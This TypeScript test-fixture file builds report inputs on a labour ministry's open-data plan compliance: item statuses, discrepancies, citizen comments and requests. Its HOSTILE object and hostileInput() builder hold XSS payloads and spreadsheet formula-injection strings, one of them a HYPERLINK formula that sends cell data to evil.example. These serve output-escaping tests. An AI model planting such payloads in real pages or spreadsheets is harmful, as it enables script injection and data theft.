/**
 * Report fixtures: builders for plan items and a small, hand-written report input covering every
 * status, ageing bucket and section (used by the golden test, the renderers' tests and the browser
 * test), plus a generated realistic one for the benchmark.
 */
import type { ReportItem } from '../../schemas/report.js';
import type {
  DiscrepancyRecord,
  ReportInput,
  WaitingComment,
  WaitingRequest,
} from '../../src/report/index.js';

export function makeItem(
  overrides: Partial<ReportItem> & Pick<ReportItem, 'seq' | 'title' | 'status'>,
): ReportItem {
  return {
    planKey: `104-1#${overrides.seq}`,
    unit: '勞動關係司',
    agency: '勞動部',
    plannedRaw: '104年8月',
    dueDate: '2015-08-31',
    datasetId: null,
    datasetTitle: null,
    publishedDate: null,
    lagDays: null,
    overdueDays: null,
    match: null,
    feedback: { comments: 0, unanswered: 0 },
    requests: [],
    ...overrides,
  };
}

const AS_OF = '2016-03-31';

/** The fixture of the golden test: 14 items from the seed plan, as of 2016-03-31. */
export function fixtureInput(overrides: Partial<ReportInput> = {}): ReportInput {
  const items: ReportItem[] = [
    makeItem({
      seq: 1,
      title: '裁決決定',
      status: 'published_on_time',
      datasetId: '6001',
      datasetTitle: '勞動部裁決決定',
      publishedDate: '2015-08-20',
      lagDays: -11,
      match: { method: 'auto', score: 0.93 },
      feedback: { comments: 2, unanswered: 1 },
    }),
    makeItem({
      seq: 2,
      title: '工會基本資料檔',
      status: 'overdue',
      plannedRaw: '105年1月',
      dueDate: '2016-01-31',
      overdueDays: 60,
      requests: ['80423'],
    }),
    makeItem({
      seq: 5,
      title: '大量解僱通報資料集',
      status: 'published_late',
      plannedRaw: '105年1月1日',
      dueDate: '2016-01-01',
      datasetId: '6005',
      datasetTitle: '大量解僱通報',
      publishedDate: '2016-01-02',
      lagDays: 1,
      match: { method: 'manual', score: null },
    }),
    makeItem({
      seq: 6,
      title: '大量解僱預警通報資料集',
      status: 'needs_review',
      plannedRaw: '105年1月1日',
      dueDate: '2016-01-01',
    }),
    makeItem({
      seq: 7,
      title: '訴願案件',
      unit: '勞動法務司',
      status: 'overdue',
      plannedRaw: '105/1',
      dueDate: '2016-01-31',
      overdueDays: 60,
    }),
    makeItem({
      seq: 9,
      title: '失業勞工子女就學補助申請資料',
      unit: '勞動福祉退休司',
      status: 'overdue',
      plannedRaw: '104年10月',
      dueDate: '2015-10-31',
      overdueDays: 152,
    }),
    makeItem({
      seq: 16,
      title: '103年育嬰留職停薪就業關懷調查',
      unit: '統計處',
      status: 'missing',
      datasetId: '6016',
      datasetTitle: '育嬰留職停薪就業關懷調查',
      publishedDate: '2015-08-10',
      lagDays: -21,
      match: { method: 'auto', score: 0.88 },
    }),
    makeItem({
      seq: 17,
      title: '國民年金被保險人申請分期繳納保險費件數統計表',
      unit: '勞工保險局',
      agency: '勞動部勞工保險局',
      status: 'published_on_time',
      plannedRaw: '104年7月',
      dueDate: '2015-07-31',
      datasetId: '13348',
      datasetTitle: '國民年金保險被保險人申請分期繳納件數',
      publishedDate: '2015-07-31',
      lagDays: 0,
      match: { method: 'auto', score: 0.9 },
      feedback: { comments: 1, unanswered: 0 },
    }),
    makeItem({
      seq: 20,
      title: '職能基準資料檔',
      unit: '勞動力發展署',
      agency: '勞動部勞動力發展署',
      status: 'overdue',
      overdueDays: 213,
    }),
    makeItem({
      seq: 28,
      title: '個別企業、工廠申請核定外籍勞工數、與實際僱用外籍勞工數量統計',
      unit: '勞動力發展署',
      agency: '勞動部勞動力發展署',
      status: 'pending',
      plannedRaw: '105年12月',
      dueDate: '2016-12-31',
    }),
    makeItem({
      seq: 29,
      title: '就業安定費及收容費執行憑證件數及金額',
      unit: '勞動力發展署',
      agency: '勞動部勞動力發展署',
      status: 'pending',
      plannedRaw: '105年6月',
      dueDate: '2016-06-30',
    }),
    makeItem({
      seq: 31,
      title: '直聘選工統計資訊',
      unit: '勞動力發展署',
      agency: '勞動部勞動力發展署',
      status: 'needs_review',
    }),
    makeItem({
      seq: 37,
      title: '國內投資股票類別統計資訊',
      unit: '勞動基金運用局',
      agency: '勞動部勞動基金運用局',
      status: 'overdue',
      plannedRaw: '103',
      dueDate: '2014-12-31',
      overdueDays: 456,
    }),
    makeItem({
      seq: 38,
      title: '職業災害地點等統計數據',
      unit: '職業安全衛生署',
      agency: '勞動部職業安全衛生署',
      status: 'published_late',
      datasetId: '6038',
      datasetTitle: '職業災害地點統計',
      publishedDate: '2015-12-01',
      lagDays: 92,
      match: { method: 'auto', score: 0.86 },
    }),
  ];
  const discrepancies: DiscrepancyRecord[] = [
    {
      id: '101',
      kind: 'overdue',
      planKey: '104-1#20',
      datasetId: null,
      firstSeen: '2015-09-01',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '職能基準資料檔 逾期 213 天',
    },
    {
      id: '102',
      kind: 'overdue',
      planKey: '104-1#9',
      datasetId: null,
      firstSeen: '2015-11-01',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '失業勞工子女就學補助申請資料 逾期 152 天',
    },
    {
      id: '103',
      kind: 'overdue',
      planKey: '104-1#2',
      datasetId: null,
      firstSeen: '2016-02-01',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '工會基本資料檔 逾期 60 天',
    },
    {
      id: '104',
      kind: 'overdue',
      planKey: '104-1#7',
      datasetId: null,
      firstSeen: '2016-02-01',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '訴願案件 逾期 60 天',
    },
    {
      id: '105',
      kind: 'overdue',
      planKey: '104-1#37',
      datasetId: null,
      firstSeen: '2015-01-01',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '國內投資股票類別統計資訊 逾期 456 天',
    },
    {
      id: '106',
      kind: 'published_late',
      planKey: '104-1#5',
      datasetId: '6005',
      firstSeen: '2016-01-02',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '晚 1 天上架',
    },
    {
      id: '107',
      kind: 'published_late',
      planKey: '104-1#38',
      datasetId: '6038',
      firstSeen: '2015-12-01',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '晚 92 天上架',
    },
    {
      id: '108',
      kind: 'missing',
      planKey: '104-1#16',
      datasetId: '6016',
      firstSeen: '2016-03-28',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '資料集 6016 已下架',
    },
    {
      id: '109',
      kind: 'needs_review',
      planKey: '104-1#6',
      datasetId: null,
      firstSeen: '2016-03-25',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '2 個候選資料集',
    },
    {
      id: '110',
      kind: 'needs_review',
      planKey: '104-1#31',
      datasetId: null,
      firstSeen: '2015-09-01',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '1 個候選資料集',
    },
    {
      id: '111',
      kind: 'unplanned',
      planKey: null,
      datasetId: '9332',
      firstSeen: '2015-07-01',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '人力仲介評鑑：計畫未列',
    },
    {
      id: '112',
      kind: 'stale',
      planKey: null,
      datasetId: '6647',
      firstSeen: '2016-03-26',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '每1月更新，最後更新 2015-12-15',
    },
    {
      id: '113',
      kind: 'unanswered_feedback',
      planKey: '104-1#1',
      datasetId: '6001',
      firstSeen: '2016-03-27',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '留言 c-1 未回覆 14 天',
    },
    {
      id: '114',
      kind: 'open_request',
      planKey: '104-1#2',
      datasetId: null,
      firstSeen: '2016-02-15',
      lastSeen: AS_OF,
      resolvedAt: null,
      detail: '提議 80423 未回復 45 天',
    },
    {
      id: '90',
      kind: 'overdue',
      planKey: '104-1#1',
      datasetId: null,
      firstSeen: '2015-09-01',
      lastSeen: '2015-09-14',
      resolvedAt: '2015-09-15',
      detail: '裁決決定 逾期',
    },
    {
      id: '91',
      kind: 'needs_review',
      planKey: '104-1#17',
      datasetId: null,
      firstSeen: '2016-02-01',
      lastSeen: '2016-03-26',
      resolvedAt: '2016-03-27',
      detail: '人工確認 13348',
    },
    {
      id: '92',
      kind: 'stale',
      planKey: null,
      datasetId: '6281',
      firstSeen: '2016-01-10',
      lastSeen: '2016-03-28',
      resolvedAt: '2016-03-29',
      detail: '已更新',
    },
    // Not yet seen on the as-of date (a later run found it): must not appear.
    {
      id: '120',
      kind: 'overdue',
      planKey: '104-1#29',
      datasetId: null,
      firstSeen: '2016-07-01',
      lastSeen: '2016-07-01',
      resolvedAt: null,
      detail: 'future',
    },
  ];
  const comments: WaitingComment[] = [
    {
      commentId: 'c-1',
      datasetId: '6001',
      datasetTitle: '勞動部裁決決定',
      author: 'K****e',
      body: '請提供 CSV 格式\n謝謝',
      firstSeen: '2016-03-17',
      waitingDays: 14,
      planKey: '104-1#1',
    },
  ];
  const requests: WaitingRequest[] = [
    {
      requestId: '80423',
      title: '請開放工會名冊',
      agency: '勞動部',
      status: '未回復',
      submittedOn: '2016-02-15',
      waitingDays: 45,
      planKey: '104-1#2',
      datasetId: null,
    },
  ];
  return {
    asOf: AS_OF,
    generatedAt: new Date('2016-03-31T00:30:00.000Z'),
    runId: '42',
    publishers: [
      '勞動部',
      '勞動部勞工保險局',
      '勞動部勞動力發展署',
      '勞動部勞動基金運用局',
      '勞動部職業安全衛生署',
      '勞動部勞動及職業安全衛生研究所',
    ],
    plans: [
      {
        label: '104-1',
        versionId: '3',
        fileName: 'mol-open-data-meeting-104-1.txt',
        importedAt: '2015-07-02T02:00:00.000Z',
        items: 14,
      },
    ],
    platformDatasets: 212,
    reconcileRunId: '41',
    items,
    candidates: {
      '104-1#6': [
        {
          datasetId: '6005',
          title: '大量解僱通報',
          publisher: '勞動部',
          publishedDate: '2016-01-02',
          score: 0.71,
        },
        {
          datasetId: '6106',
          title: '大量解僱預警',
          publisher: '勞動部',
          publishedDate: '2016-02-10',
          score: 0.78,
        },
      ],
      '104-1#31': [
        {
          datasetId: '6131',
          title: '直聘案件統計',
          publisher: '勞動部勞動力發展署',
          publishedDate: '2015-08-20',
          score: 0.62,
        },
      ],
    },
    discrepancies,
    comments,
    requests,
    previous: { runId: '35', asOf: '2016-03-24' },
    ...overrides,
  };
}

export const HOSTILE = {
  script: '<script>alert("x")</script>',
  img: '"><img src=x onerror=alert(1)>',
  svg: '</svg><script>alert(2)</script>',
  attr: "' onmouseover='alert(3)",
  hyperlink: '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  plus: '+1',
  minus: '-2',
  at: '@SUM(A1:A9)',
  tab: '\t=1+1',
};

/** The fixture with hostile text wherever the platform, the plan file or a citizen supplies text. */
export function hostileInput(): ReportInput {
  const base = fixtureInput();
  const items = base.items.map((i) => {
    switch (i.seq) {
      case 1:
        return { ...i, title: HOSTILE.script, datasetTitle: HOSTILE.hyperlink };
      case 2:
        return { ...i, title: HOSTILE.img, unit: HOSTILE.svg };
      case 5:
        return { ...i, title: HOSTILE.plus, datasetTitle: HOSTILE.attr };
      case 7:
        return { ...i, title: HOSTILE.minus, plannedRaw: HOSTILE.at };
      case 9:
        return { ...i, title: HOSTILE.at };
      case 20:
        return { ...i, title: HOSTILE.hyperlink };
      case 37:
        return { ...i, title: HOSTILE.tab };
      default:
        return i;
    }
  });
  return {
    ...base,
    items,
    discrepancies: base.discrepancies.map((d) => (d.id === '101' ? { ...d, detail: HOSTILE.img } : d)),
    candidates: {
      ...base.candidates,
      '104-1#6': [
        { datasetId: '6005', title: HOSTILE.svg, publisher: HOSTILE.attr, publishedDate: null, score: 0.7 },
      ],
    },
    comments: [
      { ...base.comments[0]!, author: HOSTILE.attr, body: '<script>alert(4)</script>' },
      {
        ...base.comments[0]!,
        commentId: 'c-2',
        author: HOSTILE.at,
        body: `${HOSTILE.hyperlink}<img src=x onerror=alert(5)>`,
      },
      { ...base.comments[0]!, commentId: 'c-3', author: null, body: HOSTILE.minus },
    ],
    requests: [{ ...base.requests[0]!, title: '<b onclick=alert(6)>請開放</b>' + HOSTILE.svg }],
  };
}

/** A ministry-sized input: `items` plan items, `datasets` platform datasets, `discrepancies` rows. */
export function realisticInput(sizes = { items: 50, datasets: 900, discrepancies: 200 }): ReportInput {
  const statuses = [
    'published_on_time',
    'published_late',
    'overdue',
    'pending',
    'missing',
    'needs_review',
  ] as const;
  const units = [
    '勞動關係司',
    '勞動法務司',
    '勞動福祉退休司',
    '統計處',
    '勞工保險局',
    '勞動力發展署',
    '勞動基金運用局',
    '職業安全衛生署',
  ];
  const items: ReportItem[] = [];
  for (let i = 1; i <= sizes.items; i++) {
    const status = statuses[i % statuses.length]!;
    const matched = status === 'published_on_time' || status === 'published_late' || status === 'missing';
    items.push(
      makeItem({
        seq: i,
        title: `資料集 ${i} 統計數據`,
        unit: units[i % units.length]!,
        status,
        dueDate: '2015-08-31',
        datasetId: matched ? String(6000 + i) : null,
        datasetTitle: matched ? `平臺資料集 ${i}` : null,
        publishedDate: matched ? (status === 'published_late' ? '2015-10-01' : '2015-08-01') : null,
        lagDays: matched ? (status === 'published_late' ? 31 : -30) : null,
        overdueDays: status === 'overdue' ? 30 + i * 17 : null,
        match: matched ? { method: 'auto', score: 0.9 } : null,
        feedback: { comments: i % 3, unanswered: i % 2 },
        requests: i % 7 === 0 ? [String(80000 + i)] : [],
      }),
    );
  }
  const kinds = [
    'overdue',
    'published_late',
    'missing',
    'needs_review',
    'unplanned',
    'stale',
    'unanswered_feedback',
    'open_request',
  ] as const;
  const discrepancies: DiscrepancyRecord[] = [];
  for (let d = 1; d <= sizes.discrepancies; d++) {
    const resolved = d % 5 === 0;
    discrepancies.push({
      id: String(d),
      kind: kinds[d % kinds.length]!,
      planKey: d % 4 === 0 ? null : `104-1#${(d % sizes.items) + 1}`,
      datasetId: String(6000 + (d % sizes.datasets)),
      firstSeen: d % 3 === 0 ? '2016-03-30' : '2015-10-01',
      lastSeen: '2016-03-31',
      resolvedAt: resolved ? '2016-03-30' : null,
      detail: `差異 ${d} 的說明文字`,
    });
  }
  const candidates: ReportInput['candidates'] = {};
  for (const it of items.filter((x) => x.status === 'needs_review'))
    candidates[it.planKey] = [1, 2, 3].map((k) => ({
      datasetId: String(7000 + it.seq * 3 + k),
      title: `候選 ${it.seq}-${k}`,
      publisher: '勞動部',
      publishedDate: '2015-09-01',
      score: 0.6 + k / 100,
    }));
  return {
    ...fixtureInput(),
    items,
    discrepancies,
    candidates,
    platformDatasets: sizes.datasets,
    comments: Array.from({ length: 60 }, (_, k) => ({
      commentId: `c${k}`,
      datasetId: String(6000 + k),
      datasetTitle: `平臺資料集 ${k}`,
      author: 'A***',
      body: '請問資料何時更新？\n'.repeat(3).trim(),
      firstSeen: '2016-01-01',
      waitingDays: 90 - k,
      planKey: null,
    })),
    requests: Array.from({ length: 30 }, (_, k) => ({
      requestId: String(80000 + k),
      title: `請開放第 ${k} 項資料`,
      agency: '勞動部',
      status: '未回復',
      submittedOn: '2016-01-15',
      waitingDays: 76 - k,
      planKey: null,
      datasetId: null,
    })),
  };
}
